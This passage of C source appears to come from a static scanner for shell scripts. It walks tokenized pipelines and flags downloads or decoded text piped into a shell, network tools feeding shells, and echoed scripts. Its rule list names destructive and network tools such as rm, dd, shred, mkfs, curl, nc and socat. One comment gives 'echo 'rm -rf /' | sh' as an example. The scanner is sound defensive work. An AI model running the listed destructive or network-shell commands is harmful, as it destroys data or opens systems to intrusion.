        Frame *loop = innermost(wk, 1u << F_LOOP);
        bool forks = c->n_pipe > 1 || c->bg;

        if (is_shell(c->name) && in->how == I_SCRIPT)
                self = c->argv[in->arg].s; /* bash "$0" */
        for (size_t k = wk->n_frames; k-- > 0;) {
                Frame *f = &wk->frames[k];

                if (!((1u << f->kind) & FUNC_KINDS) || !streq(f->name, self))
                        continue;
                if (f->kind == F_SCRIPT && f->self_calls == 0)
                        f->tok = c->cmd->first_tok;
                f->self_calls++;
                f->forking_calls += forks;
                break;
        }
        if (!loop)
                return;
        if (loop->cond && !loop->forever && wk->n_frames > 0 &&
            &wk->frames[wk->n_frames - 1] == loop) {
                bool until =
                    streq(sh_token_text(&wk->sp->ts, &wk->sp->ts.tokens[loop->tok]), "until");

                loop->forever = until ? streq(c->name, "false")
                                      : (streq(c->name, "true") || streq(c->name, ":") ||
                                         ((streq(c->name, "[") || streq(c->name, "test")) &&
                                          streq(arg(c, 1), "1")));
                loop->cond = false; /* only the first command decides */
        }
        if (c->bg)
                loop->bg++;
        if (!c->bg && in_list("|sleep|wait|read|", c->name) && wk->n_frames > 0)
                wk->frames[wk->n_frames - 1].pause = true;
}

/* ---- commands and pipelines ---- */

static void cmd_clear(Cmd *c)
{
        for (size_t i = 0; i < c->n; i++)
                free(c->w[i].s);
        for (size_t i = 0; i < c->n_r; i++)
                free(c->r[i].target.s);
        c->n = c->n_r = c->n_assign = 0;
        c->any = c->unwrapped = false;
}

static Cmd *cur(Walk *wk)
{
        Script *sp = wk->sp;

        if (wk->n_pipe >= sp->cap_pipe) {
                size_t cap = MAX(sp->cap_pipe * 2, (size_t)4);
                Cmd *p = xrealloc(sp->sc, sp->pipe, cap, sizeof(Cmd));

                if (!p)
                        return NULL;
                memset(p + sp->cap_pipe, 0, (cap - sp->cap_pipe) * sizeof(Cmd));
                sp->pipe = wk->pipe = p;
                sp->cap_pipe = cap;
        }
        return &wk->pipe[wk->n_pipe];
}

static void touch(Cmd *c, uint32_t tok)
{
        if (!c->any)
                c->first_tok = tok;
        c->last_tok = tok;
        c->any = true;
}

static void add_word(Walk *wk, Cmd *c, uint32_t tok, bool assign)
{
        if (c->n >= c->cap) {
                size_t cap = MAX(c->cap * 2, (size_t)8);
                Word *w = xrealloc(wk->sp->sc, c->w, cap, sizeof(Word));

                if (!w)
                        return;
                c->w = w;
                c->cap = cap;
        }
        resolve(wk, tok, &c->w[c->n++]);
        if (assign)
                c->n_assign++;
        touch(c, tok);
}

static void add_redir(Walk *wk, Cmd *c, uint32_t op_tok, uint32_t target)
{
        const ShToken *op = &wk->sp->ts.tokens[op_tok];
        Redir *r;

        if (c->n_r >= c->cap_r) {
                size_t cap = MAX(c->cap_r * 2, (size_t)4);
                Redir *p = xrealloc(wk->sp->sc, c->r, cap, sizeof(Redir));

                if (!p)
                        return;
                c->r = p;
                c->cap_r = cap;
        }
        r = &c->r[c->n_r++];
        *r = (Redir){.op = op->op, .fd = op->io_number, .heredoc = op->heredoc};
        if (r->fd < 0)
                r->fd = op->op == SH_OP_LESS || op->op == SH_OP_LESSAND ||
                                op->op == SH_OP_LESSGREAT || op->op == SH_OP_DLESS ||
                                op->op == SH_OP_DLESSDASH || op->op == SH_OP_TLESS
                            ? 0
                            : 1;
        touch(c, op_tok);
        if (target != SH_NONE) {
                resolve(wk, target, &r->target);
                touch(c, target);
        }
}

static bool make_call(Walk *wk, Cmd *cmd, size_t index, bool bg, Call *c)
{
        size_t i;

        if (!cmd->unwrapped) {
                cmd->argv0 = unwrap(cmd, cmd->n_assign);
                cmd->unwrapped = true;
        }
        i = cmd->argv0;

        *c = (Call){.wk = wk, .cmd = cmd, .index = index, .n_pipe = wk->n_pipe, .bg = bg};
        if (i == SIZE_MAX)
                return false; /* command -v x: looks x up, runs nothing */
        if (i < cmd->n) {
                c->argv = &cmd->w[i];
                c->argc = cmd->n - i;
                c->name = word_name(c->argv);
        }
        return true;
}

/* Every command name a rule below looks at (mkfs.* aside): others skip them, which keeps the
 * scan fast on ordinary lines. A name missing here silences its rule: the unit tests run each
 * rule, so they would notice. */
static const char rule_names[] =
    "|rm|unlink|find|chmod|chown|chgrp|kill|killall5|mount|crontab|history|set|eval|trap|"
    "source|.|su|runuser|mkfs|mke2fs|mkswap|wipefs|mkdosfs|mkntfs|insmod|modprobe|rmmod|"
    "nsenter|unshare|chattr|at|batch|systemctl|update-rc.d|chkconfig|rc-update|iptables|"
    "ip6tables|iptables-legacy|iptables-nft|ebtables|arptables|nft|ufw|setenforce|journalctl|"
    "dmesg|unset|tee|truncate|shred|cp|mv|install|ln|rsync|sed|dd|curl|wget|fetch|aria2c|"
    "http|https|lwp-download|lwp-request|nc|ncat|netcat|nc.traditional|nc.openbsd|socat|"
    "telnet|nmap|masscan|";

static void rules_for(const Call *c, Interp *in)
{
        const char *n = c->name;

        for (size_t i = 0; i < c->cmd->n_assign; i++)
                check_assignment(c, &c->cmd->w[i]);
        rule_redirections(c);
        if (c->argc == 0)
                return;
        rule_name(c);
        if (in_list("|export|declare|typeset|local|readonly|", n))
                for (size_t i = 1; i < c->argc; i++) {
                        check_assignment(c, &c->argv[i]);
                        if (c->argv[i].flags & W_ASSIGN)
                                var_assign(c->wk->sp->sc, &c->argv[i]);
                }
        if (streq(n, "unset"))
                for (size_t i = 1; i < c->argc; i++)
                        var_unset(c->wk->sp->sc, c->argv[i].s);
        if (is_interpreter(n)) {
                *in = interp_of(c);
                rule_interpreter(c);
        }
        track_structure(c, in);
        if (!n)
                return;
        rule_credentials(c);
        if (!in_list(rule_names, n) && !startswith(n, "mkfs."))
                return;
        rule_misc(c);
        rule_simple(c);
        rule_writers(c);
        rule_metadata(c);
}

static bool stdin_redirected(const Cmd *cmd)
{
        for (size_t i = 0; i < cmd->n_r; i++)
                if (cmd->r[i].fd == 0)
                        return true;
        return false;
}

/* cat <<EOF | sh: the here-doc cat passes on is the script. */
static void scan_catted(const Call *prev, const Call *c)
{
        const ShTokens *ts = &c->wk->sp->ts;

        if (prev->argc != 1)
                return; /* cat FILE: the file's text is not known */
        for (size_t i = 0; i < prev->cmd->n_r; i++) {
                const Redir *r = &prev->cmd->r[i];
                const ShToken *h;
                _cleanup_free_ char *body = NULL;

                if (r->fd != 0 || r->heredoc == SH_NONE)
                        continue;
                h = &ts->tokens[r->heredoc];
                body = strndup(sh_token_raw(ts, h), h->length);
                if (body)
                        scan_string(c, body, h, h);
        }
}

/* echo 'rm -rf /' | sh: the text a shell reads from echo or printf is a script. */
static void scan_echoed(const Call *prev, const Call *c)
{
        Buf b = {};

        if (streq(prev->name, "cat")) {
                scan_catted(prev, c);
                return;
        }

        for (size_t i = 1; i < prev->argc; i++) {
                const Word *w = &prev->argv[i];

                if (!(w->flags & W_LITERAL)) {
                        free(b.p);
                        return;
                }
                if (i == 1 && streq(prev->name, "echo") && is_opt(w->s))
                        continue;
                buf_add(&b, w->s, strlen(w->s));
                buf_add(&b, streq(prev->name, "echo") ? " " : "", streq(prev->name, "echo"));
        }
        if (b.p && !b.oom)
                scan_string(c, b.p, &c->wk->sp->ts.tokens[prev->argv[1].tok],
                            &c->wk->sp->ts.tokens[prev->argv[prev->argc - 1].tok]);
        free(b.p);
}

static void process(Walk *wk, bool bg)
{
        Script *sp = wk->sp;
        bool net = false, fetch = false, decode = false;
        uint32_t first = wk->pipe[0].first_tok, last = wk->pipe[wk->n_pipe - 1].last_tok;
        Call prev = {};

        for (size_t i = 0; i < wk->n_pipe; i++) {
                Call c;

                if (make_call(wk, &wk->pipe[i], i, bg, &c) && c.name)
                        net |= is_nettool(c.name) ||
                               (streq(c.name, "openssl") && has_arg(&c, "s_client"));
        }
        for (size_t i = 0; i < wk->n_pipe; i++) {
                Cmd *cmd = &wk->pipe[i];
                Interp in = {.how = I_NONE};
                unsigned wflags = 0;
                Call c;

                if (!make_call(wk, cmd, i, bg, &c))
                        continue;
                for (size_t k = 0; k < cmd->n; k++)
                        wflags |= cmd->w[k].flags & (W_FETCH | W_DECODE);
                if (wk->summary) {
                        wk->flags |= wflags;
                        if (c.name && is_fetcher(c.name))
                                wk->flags |= W_FETCH;
                        if (is_decoder(&c))
                                wk->flags |= W_DECODE;
                        continue;
                }
                rules_for(&c, &in);
                if (in.how == I_STDIN && !stdin_redirected(cmd)) {
                        if (i > 0 && decode)
                                emit(sp, R_DECODE, first, last, "%s reads decoded text", c.name);
                        else if (i > 0 && fetch)
                                emit(sp, R_REMOTE, first, last, "%s reads a download", c.name);
                        else if (i > 0 && is_shell(c.name) &&
                                 (((streq(prev.name, "echo") || streq(prev.name, "printf")) &&
                                   prev.argc > 1) ||
                                  streq(prev.name, "cat")))
                                scan_echoed(&prev, &c);
                        if (net && is_shell(c.name))
                                emit(sp, R_REVSHELL, first, last,
                                     "%s reads from or writes to a network tool", c.name);
                }
                if (c.name) {
                        fetch |= is_fetcher(c.name);
                        decode |= is_decoder(&c);
                }
                fetch |= wflags & W_FETCH;
                decode |= wflags & W_DECODE;
                prev = c;
        }
        if (wk->summary)
                return;
        /* Assignments alone on their line set variables for what follows. */
        for (size_t i = 0; i < wk->n_pipe; i++) {
                Cmd *cmd = &wk->pipe[i];

                if (cmd->n == cmd->n_assign)
                        for (size_t k = 0; k < cmd->n_assign; k++)
                                var_assign(sp->sc, &cmd->w[k]);
        }
}

static void end_cmd(Walk *wk)
{
        Cmd *c = cur(wk);

        if (c && c->any)
                wk->n_pipe++;
}

static void end_pipeline(Walk *wk, bool bg)
{
        end_cmd(wk);
        if (wk->n_pipe > 0)
                process(wk, bg);
        for (size_t i = 0; i < wk->n_pipe; i++)
                cmd_clear(&wk->pipe[i]);
        wk->n_pipe = 0;
}

/* The next token of the walked list, or NULL. */
static const ShToken *next_tok(const Walk *wk, size_t k, uint32_t *ret_index)
{
        const ShList *l = &wk->sp->ts.lists[wk->list];

        if (k + 1 >= l->n)
                return NULL;
        *ret_index = wk->sp->ts.order[l->first + k + 1];
        return &wk->sp->ts.tokens[*ret_index];
}

/* An operator; returns how many following tokens it consumed. */
static size_t walk_op(Walk *wk, size_t k, uint32_t ti)
{
        const ShToken *t = &wk->sp->ts.tokens[ti], *nt;
        uint32_t ni = SH_NONE;
        Cmd *c = cur(wk);

        if (!c)
                return 0;
        nt = next_tok(wk, k, &ni);
        if (sh_op_is_redirection(t->op)) {
                bool has_target = nt && nt->kind == SH_TOK_WORD;

                add_redir(wk, c, ti, has_target ? ni : SH_NONE);
                return has_target;
        }
        switch (t->op) {
        case SH_OP_PIPE:
        case SH_OP_PIPE_AMP:
                end_cmd(wk);
                break;
        case SH_OP_AMP:
                if (wk->n_pipe == 0 && !c->any && wk->closed_group) {
                        Frame *loop = innermost(wk, 1u << F_LOOP);

                        if (loop)
                                loop->bg++;       /* ( ... ) & or { ...; } & */
                        wk->closed_pause = false; /* its sleep runs in the background */
                }
                end_pipeline(wk, true);
                break;
        case SH_OP_LPAREN:
                if (nt && nt->kind == SH_TOK_OP && nt->op == SH_OP_RPAREN &&
                    ((c->n == 1 && c->n_assign == 0 && c->n_r == 0) ||
                     (c->n == 0 && wk->pending_func))) {
                        if (c->n == 1) { /* name() */
                                wk->pending_func =
                                    sh_token_text(&wk->sp->ts, &wk->sp->ts.tokens[c->w[0].tok]);
                                wk->pending_func_tok = c->w[0].tok;
                                cmd_clear(c);
                        }
                        return 1;
                }
                end_pipeline(wk, false);
                push(wk, (Frame){.kind = wk->pending_func ? F_FUNC_PAREN : F_PAREN,
                                 .name = wk->pending_func,
                                 .tok = wk->pending_func_tok});
                wk->pending_func = NULL;
                break;
        case SH_OP_RPAREN:
                end_pipeline(wk, false);
                pop(wk, (1u << F_PAREN) | (1u << F_FUNC_PAREN));
                break;
        default:
                end_pipeline(wk, false);
        }
        return 0;
}

/* Words between for (or select) and do: the loop's list, not a command. */
static void walk_for_header(Walk *wk, const ShToken *t, const char *kw)
{
        Frame *loop = innermost(wk, 1u << F_LOOP);

        if (streq(kw, "do")) {
                wk->for_header = false;
        } else if ((t->flags & SH_WORD_ARITH_CMD) && loop) {
                /* for ((;;)): nothing between the semicolons */
                const char *raw = sh_token_raw(&wk->sp->ts, t);
                size_t i = 0;

                while (i < t->length && raw[i] != '\0' && strchr("(); \t", raw[i]))
                        i++;
                loop->forever = i == t->length;
        }
}

/* A reserved word where a command would start; returns false for any other word. */
static bool walk_keyword(Walk *wk, const char *kw, uint32_t ti)
{
        Frame *loop;

        if (streq(kw, "{")) {
                end_pipeline(wk, false);
                push(wk, (Frame){.kind = wk->pending_func ? F_FUNC_BRACE : F_BRACE,
                                 .name = wk->pending_func,
                                 .tok = wk->pending_func_tok});
                wk->pending_func = NULL;
        } else if (streq(kw, "}") || streq(kw, "fi") || streq(kw, "done")) {
                end_pipeline(wk, false);
                pop(wk, streq(kw, "}")    ? (1u << F_BRACE) | (1u << F_FUNC_BRACE)
                        : streq(kw, "fi") ? 1u << F_IF
                                          : 1u << F_LOOP);
        } else if (streq(kw, "if")) {
                push(wk, (Frame){.kind = F_IF});
        } else if (in_list("|while|until|for|select|", kw)) {
                push(wk, (Frame){.kind = F_LOOP, .tok = ti, .cond = kw[0] == 'w' || kw[0] == 'u'});
                wk->for_header = kw[0] == 'f' || kw[0] == 's';
        } else if (streq(kw, "do")) {
                loop = innermost(wk, 1u << F_LOOP);
                if (loop)
                        loop->cond = false;
        } else if (streq(kw, "function")) {
                wk->func_keyword = true;
        } else
                return in_list("|then|else|elif|!|time|in|esac|", kw);
        return true;
}

static void walk_word(Walk *wk, uint32_t ti)
{
        const ShTokens *ts = &wk->sp->ts;
        const ShToken *t = &ts->tokens[ti];
        const char *kw =
            (t->flags & (SH_WORD_QUOTED | SH_WORD_EXPANDS)) ? NULL : sh_token_text(ts, t);
        Cmd *c = cur(wk);

        if (!c)
                return;
        if (wk->for_header) {
                walk_for_header(wk, t, kw);
                return;
        }
        if (c->n == 0 && kw && walk_keyword(wk, kw, ti))
                return;
        if (c->n == 0 && wk->func_keyword) { /* function NAME */
                wk->func_keyword = false;
                wk->pending_func = sh_token_text(ts, t);
                wk->pending_func_tok = ti;
                return;
        }
        if (t->flags & SH_WORD_ARITH_CMD)
                return;
        wk->pending_func = NULL;
        wk->closed_group = false;
        if (c->n == c->n_assign && (t->flags & SH_WORD_ASSIGN)) {
                add_word(wk, c, ti, true);
                wk->array_pending = (t->flags & SH_WORD_ARRAY) != 0;
                return;
        }
        add_word(wk, c, ti, false);
}

static void walk(Script *sp, uint32_t list, bool summary)
{
        const ShTokens *ts = &sp->ts;
        const ShList *l = &ts->lists[list];
        Walk walk_state = {.sp = sp,
                           .list = list,
                           .summary = summary,
                           .pipe = sp->pipe,
                           .frames = sp->frames},
             *wk = &walk_state;

        if (!summary && list == 0 && sp->depth == 0)
                push(wk, (Frame){.kind = F_SCRIPT, .name = "$0"});
        for (size_t k = 0; k < l->n && sp->sc->err == 0; k++) {
                uint32_t ti = ts->order[l->first + k];
                const ShToken *t = &ts->tokens[ti];

                if (t->flags & (SH_TOK_CASE_HEAD | SH_TOK_CASE_PATTERN | SH_TOK_COND))
                        continue;
                if (wk->closed_pause && !(t->kind == SH_TOK_OP && t->op == SH_OP_AMP)) {
                        wk->closed_pause = false;
                        if (wk->n_frames > 0)
                                wk->frames[wk->n_frames - 1].pause = true;
                }
                if (wk->array_pending) {
                        wk->array_pending = false;
                        if (t->kind == SH_TOK_OP && t->op == SH_OP_LPAREN) {
                                wk->array_depth = 1;
                                continue;
                        }
                }
                if (wk->array_depth > 0) { /* NAME=( ... ): words, not commands */
                        if (t->kind == SH_TOK_OP && t->op == SH_OP_LPAREN)
                                wk->array_depth++;
                        else if (t->kind == SH_TOK_OP && t->op == SH_OP_RPAREN)
                                wk->array_depth--;
                        continue;
                }
                switch (t->kind) {
                case SH_TOK_WORD:
                        walk_word(wk, ti);
                        break;
                case SH_TOK_OP:
                        if (!wk->for_header)
                                k += walk_op(wk, k, ti);
                        break;
                case SH_TOK_NEWLINE: {
                        Cmd *c = cur(wk);

                        /* a | b may break its line after the |: the pipeline goes on */
                        if (!wk->for_header && !(wk->n_pipe > 0 && c && !c->any))
                                end_pipeline(wk, false);
                        break;
                }
                default: /* comments, here-doc bodies (their command holds them) */
                        break;
                }
        }
        end_pipeline(wk, false);
        while (wk->n_frames > 0) {
                wk->n_frames--;
                finish(wk, &wk->frames[wk->n_frames]);
        }
        if (summary)
                sp->list_flags[list] = wk->flags;
}

static void scan_script(Scanner *sc, const char *src, size_t len, uint32_t line, uint32_t column,
                        uint32_t last_line, uint32_t depth)
{
        Script sp = {
            .sc = sc,
            .depth = depth,
            .line = line,
            .column = column,
            .last_line = last_line,
        };
        int r;

        r = sh_tokenize(src, len, &sp.ts);
        if (r < 0) {
                if (sc->err == 0)
                        sc->err = r;
                return;
        }
        sp.list_flags = calloc(MAX(sp.ts.n_lists, (size_t)1), 1);
        sp.tok_flags = calloc(MAX(sp.ts.n_tokens, (size_t)1), 1);
        sp.frames = malloc(MAX_FRAMES * sizeof(Frame));
        if (!sp.list_flags || !sp.tok_flags || !sp.frames) {
                sc->err = -ENOMEM;
                goto out;
        }
        /* Summaries first, innermost lists first: a parent's words need its children's. */
        for (size_t l = sp.ts.n_lists; l-- > 0;) {
                walk(&sp, (uint32_t)l, true);
                if (sp.ts.lists[l].token != SH_NONE)
                        sp.tok_flags[sp.ts.lists[l].token] |= sp.list_flags[l];
        }
        for (size_t l = 0; l < sp.ts.n_lists && sc->err == 0; l++)
                walk(&sp, (uint32_t)l, false);
        if (sp.ts.limit_hit && !sc->limit_reported) {
                ShToken at = {.line = sp.ts.limit_line, .column = sp.ts.limit_column};
                uint32_t l, c;

                sc->limit_reported = true;
                map_pos(&sp, &at, &l, &c);
                emit_at(&sp, R_LIMIT, l, c,
                        "input nested deeper than %d or longer than %u "
                        "tokens: the rest is not scanned",
                        SH_MAX_DEPTH, SH_MAX_TOKENS);
        }
out:
        for (size_t i = 0; i < sp.cap_pipe; i++) {
                cmd_clear(&sp.pipe[i]);
                free(sp.pipe[i].w);
                free(sp.pipe[i].r);
        }
        free(sp.pipe);
        free(sp.frames);
        free(sp.list_flags);
        free(sp.tok_flags);
        sh_tokens_done(&sp.ts);
}

int scan_shell(const char *data, size_t len, ScanReport *r)
{
        Scanner sc = {.report = r};

        scan_script(&sc, data, len, 1, 1, UINT32_MAX, 0);
        for (size_t i = 0; i < sc.n_vars; i++) {
                free(sc.vars[i].name);
                free(sc.vars[i].value);
        }
        for (size_t i = 0; i < sc.n_fetched; i++)
                free(sc.fetched[i]);
        free(sc.seen);
        return sc.err;
}
